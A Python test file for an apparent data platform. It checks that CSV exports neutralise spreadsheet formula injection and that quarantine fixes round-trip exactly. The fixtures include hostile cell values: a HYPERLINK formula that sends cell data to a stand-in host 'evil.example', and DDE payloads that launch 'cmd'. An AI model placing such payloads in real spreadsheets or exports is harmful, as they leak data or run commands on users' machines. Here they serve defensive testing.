"""Spreadsheet formulas in delivered cells (CSV injection, OWASP) are neutralised in every CSV the platform
writes for people: the API's CSV export and the quarantine export (CLI and dashboard download), and a fixed
export comes back as it was delivered."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from pathlib import Path

import httpx
import polars as pl
import pyarrow as pa
import pytest
from typer.testing import CliRunner

from datahub import pipeline
from datahub.api import create_app
from datahub.cli import app as cli
from datahub.platform import Platform
from datahub.quality.history import land_resubmission
from datahub.serving.neutralise import neutralise_formulas, restore_formulas
from tests.api.conftest import serve
from tests.conftest import SHARED_DATA

BOSTON = SHARED_DATA / "service_requests" / "boston311" / "boston311-100.csv"
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"details")'
NUMBER = re.compile(r"[+-]?[0-9.]+")
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"

# (cell as delivered, cell as exported): commented positive and negative cases.
CELLS = [
    (HYPERLINK, "'" + HYPERLINK),  # a formula
    ("+86 138 0013 8000", "'+86 138 0013 8000"),  # text that a spreadsheet would still evaluate
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),  # DDE behind a minus
    (DDE, "'" + DDE),
    ("\t=1+1", "'\t=1+1"),  # a tab or a carriage return first hides a formula behind it
    ("\r=1+1", "'\r=1+1"),
    ("'=1+1", "''=1+1"),  # already quoted: quoted again, so that the way back is exact
    ("-", "'-"),
    ("-12.5", "-12.5"),  # a plain number is read as a number, never run: left alone
    ("+8613800138000", "+8613800138000"),
    ("1e-5", "1e-5"),
    ("a=b", "a=b"),  # only the first character counts
    (" =1+1", " =1+1"),
    ("'quoted'", "'quoted'"),
    ("", ""),
    (None, None),
]


def test_text_cells_that_start_a_formula_get_a_quote_and_numbers_do_not() -> None:
    cells = [given for given, _ in CELLS]
    table = pa.table(
        {
            "text": pa.array(cells, pa.string()),
            "large": pa.array(cells, pa.large_string()),
            "coded": pa.array(cells, pa.string()).dictionary_encode(),
            "number": pa.array([-1.5] * len(cells)),
        }
    )
    out = neutralise_formulas(table)
    expected = [exported for _, exported in CELLS]
    assert out.column("text").to_pylist() == expected
    assert out.column("large").to_pylist() == expected
    assert out.column("coded").to_pylist() == expected
    assert out.column("number").to_pylist() == [-1.5] * len(cells)
    # The way back (a fixed quarantine export) is exact.
    frame = pl.from_arrow(out.select(["text"]))
    assert isinstance(frame, pl.DataFrame)
    assert restore_formulas(frame).get_column("text").to_list() == cells


@pytest.fixture
def delivered(platform: Platform, tmp_path: Path) -> Iterator[str]:
    """A real Boston 311 export with hostile cells, through the whole pipeline: row 2's `type` and
    `subject` published, row 3's bad `ontime` (a formula) quarantined."""
    declared = [c.physical_name for c in platform.catalog.get("boston311_requests").columns]
    rows = pl.read_csv(BOSTON, infer_schema=False).head(20).select(declared)

    def cell(row: int, column: str, value: str) -> pl.Expr:
        return (
            pl.when(pl.int_range(pl.len()) == row).then(pl.lit(value)).otherwise(pl.col(column)).alias(column)
        )

    rows = rows.with_columns(cell(1, "type", HYPERLINK), cell(1, "subject", "-12.5"), cell(2, "ontime", DDE))
    source = tmp_path / "boston311_hostile.csv"
    rows.write_csv(source)
    summary = pipeline.ingest_file(platform, "boston311_requests", source)
    assert (summary.status, summary.rows_quarantined) == ("published", 1), summary
    yield summary.delivery_id


def _cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_the_api_csv_export_neutralises_formulas(platform: Platform, delivered: str) -> None:
    app = create_app(platform.settings)
    key = app.state.clients.create("spreadsheet user", "consumer").api_key
    with serve(app) as server, httpx.Client(base_url=server.url, timeout=60) as http:
        auth = {"Authorization": f"Bearer {key}"}
        response = http.get("/api/v1/views/boston311_requests/export", headers=auth, params={"format": "csv"})
        assert response.status_code == 200, response.text
        exported = _cells(response.content.decode("utf-8-sig"))
        assert [r["type"] for r in exported if r["type"].startswith("'")] == ["'" + HYPERLINK]
        starts = [v for row in exported for v in row.values() if v[:1] and v[0] in "=+-@\t\r"]
        assert starts and all(NUMBER.fullmatch(v) for v in starts)  # only numbers start so
        assert "-12.5" in [r["subject"] for r in exported]  # a plain number in a text column stays
        assert {r["longitude"][:1] for r in exported} == {"-"}  # numbers typed as numbers are untouched
        # JSON is not a spreadsheet: the rows API answers the value as delivered.
        rows = http.get("/api/v1/views/boston311_requests/rows", headers=auth, params={"limit": 100}).json()
        assert HYPERLINK in [r["type"] for r in rows["data"]]


def test_the_quarantine_export_neutralises_formulas_and_a_fix_comes_back_verbatim(
    platform: Platform, delivered: str, tmp_path: Path
) -> None:
    out = tmp_path / "fix.csv"
    env = {"DATAHUB_HOME": str(platform.settings.home), "DATAHUB_DEMO_MODE": "true"}
    result = CliRunner().invoke(
        cli, ["quarantine", "export", "boston311_requests", delivered, "--out", str(out)], env=env
    )
    assert result.exit_code == 0, result.output
    (held,) = _cells(out.read_text(encoding="utf-8"))
    assert held["ontime"] == "'" + DDE
    assert held["longitude"].startswith("-")  # a delivered number, as text, stays a number

    landed = land_resubmission(platform, platform.catalog.get("boston311_requests"), out)
    assert pl.read_parquet(landed).get_column("ontime").to_list() == [DDE]
